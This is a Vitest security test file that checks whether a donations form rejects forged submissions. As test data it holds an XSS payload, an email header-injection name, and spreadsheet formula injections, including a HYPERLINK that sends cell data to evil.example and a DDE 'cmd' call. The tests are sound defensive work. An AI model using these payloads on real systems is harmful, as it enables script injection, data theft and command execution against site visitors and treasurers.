import { beforeAll, expect, it } from 'vitest'

import { signIn } from '../apiClient'
import { describeOnDatabase } from '../database'
import { createUser, uniqueSlug } from '../fixtures'
import {
  type DonationsHarness,
  donate,
  donationForm,
  donationOfSession,
  newPerson,
  paidDonation,
  postDonation,
  rowCounts,
  sessionOf,
  siteOrigin,
  startDonationsHarness,
} from '../donationsHarness'

/**
 * Threat: a hand-made form. Amounts the form would never send (negative, fractions of a cent,
 * huge, another currency), shares to groups that may not receive (inactive, unknown, odd slugs,
 * above the amount), and text meant for the pages, emails and spreadsheets the donation reaches
 * (the CMS's correction page, the treasurer's CSV). A refusal writes nothing and calls nobody; a
 * donation is always in euros, its shares within it, to active groups only; no posted text runs.
 */
describeOnDatabase('donations: a hand-made form (attacker review)', () => {
  let harness: DonationsHarness

  beforeAll(async () => {
    harness = await startDonationsHarness()
  })

  const refused = async (fields: Record<string, string>) => {
    const before = await rowCounts(harness)
    const calls = harness.fake.requests.length
    const answer = await donate(harness, donationForm(newPerson(), fields))
    expect(answer.outcome, JSON.stringify(fields)).toBe('invalid')
    expect(await rowCounts(harness)).toEqual(before)
    expect(harness.fake.requests.length).toBe(calls)
    return answer
  }

  it('amounts no person types are refused: negative, zero, a fraction of a cent, exponents, hex, above the maximum', async () => {
    for (const amount of ['-10', '0', '0,00', '10.001', '1e3', '0x10', 'Infinity', '99999999', '7500,01', '10,5,5', '١٠']) {
      await refused({ amountChoice: 'other', amountOther: amount })
      await refused({ amountChoice: amount })
    }
  })

  it('shares to an inactive or unknown group, negative shares or shares above the amount are refused', async () => {
    const inactive = await harness.payload.create({
      collection: 'action-groups',
      data: { name: 'Groupe dissous', slug: uniqueSlug('groupe'), kind: 'local', active: false },
    })
    const { north } = harness.groups
    for (const shares of <Record<string, string>[]>[
      { [`share.${inactive.slug}`]: '5' },
      { 'share.__proto__': '5' },
      { 'share.constructor': '5' },
      { [`share.${north.slug.toUpperCase()}`]: '5' },
      { [`share.${north.slug} `]: '5' },
      { 'share.': '5' },
      { [`share.${north.slug}`]: '-5' },
      { [`share.${north.slug}`]: '20,001' },
      { [`share.${north.slug}`]: '30' },
    ]) {
      await refused({ amountChoice: '20', ...shares })
    }
  })

  it('what the form cannot say is not taken from it: another currency, a status, a price, the national part', async () => {
    const answer = await donate(
      harness,
      donationForm(newPerson(), {
        amountChoice: '20',
        [`share.${harness.groups.north.slug}`]: '5',
        currency: 'usd',
        status: 'succeeded',
        unit_amount: '1',
        nationalCents: '0',
        amountCents: '1',
      }),
    )
    const row = await donationOfSession(harness, sessionOf(answer))
    expect(row).toMatchObject({ status: 'pending', amountCents: 2000, nationalCents: 1500 })
    const params = harness.fake.requests.filter((call) => call.path === '/v1/checkout/sessions' && call.method === 'POST').at(-1)!.params
    expect(JSON.stringify(params)).toContain('"currency":"eur"')
    expect(JSON.stringify(params)).toContain('"unit_amount":"2000"')
  })

  it('names carry no link, digits, markup or line break (the emails would carry a stranger’s text)', async () => {
    for (const firstName of ['Visit https://evil.example', '<b>Camille</b>', 'Camille\r\nBcc: x@evil.example', 'Camille2', '=1+1']) {
      const answer = await refused({ amountChoice: '10', firstName })
      expect(answer).toMatchObject({ problems: { firstName: 'firstNameInvalid' } })
    }
  })

  it('the correction page escapes every posted name and value; nothing in it can run', async () => {
    const payload = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
    const response = await postDonation(
      harness,
      donationForm(newPerson(), {
        amountChoice: 'other',
        amountOther: payload,
        [`share.${payload}`]: payload,
        city: payload,
        address: payload,
      }),
      { Origin: siteOrigin, Accept: 'text/html' },
    )
    expect(response.status).toBe(422)
    const csp = response.headers.get('content-security-policy') ?? ''
    expect(csp).toContain("default-src 'none'")
    expect(csp).not.toMatch(/script-src/)
    const html = await response.text()
    expect(html).not.toContain('<img')
    expect(html).not.toContain('<script')
    expect(html).toContain('&#34;&#62;&#60;img src=x onerror=alert(1)&#62;')
  })

  it('an address or city written as a spreadsheet formula reaches the treasurer’s files disarmed', async () => {
    const person = { ...newPerson(), address: '=HYPERLINK("https://evil.example/?"&A1;"Reçu")', city: '@SUM(1+1)*cmd|"/c calc"!A1' }
    await paidDonation(harness, person, '15')
    const treasurer = await signIn(harness.request, (await createUser(harness.payload, 'treasurer')).email)
    let linesRead = 0
    for (const path of ['treasury/donations', 'treasury/donors']) {
      const response = await harness.request('GET', path, { token: treasurer })
      expect(response.status, path).toBe(200)
      const csv = await response.text()
      if (!csv.includes(person.lastName)) continue
      for (const line of csv.split('\r\n').filter((row) => row.includes(person.lastName))) {
        linesRead += 1
        for (const cell of line.split(/[;,](?=")/)) expect(cell.replace(/^"/, ''), `${path}: ${line}`).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
    expect(linesRead).toBeGreaterThan(0)
  })
})
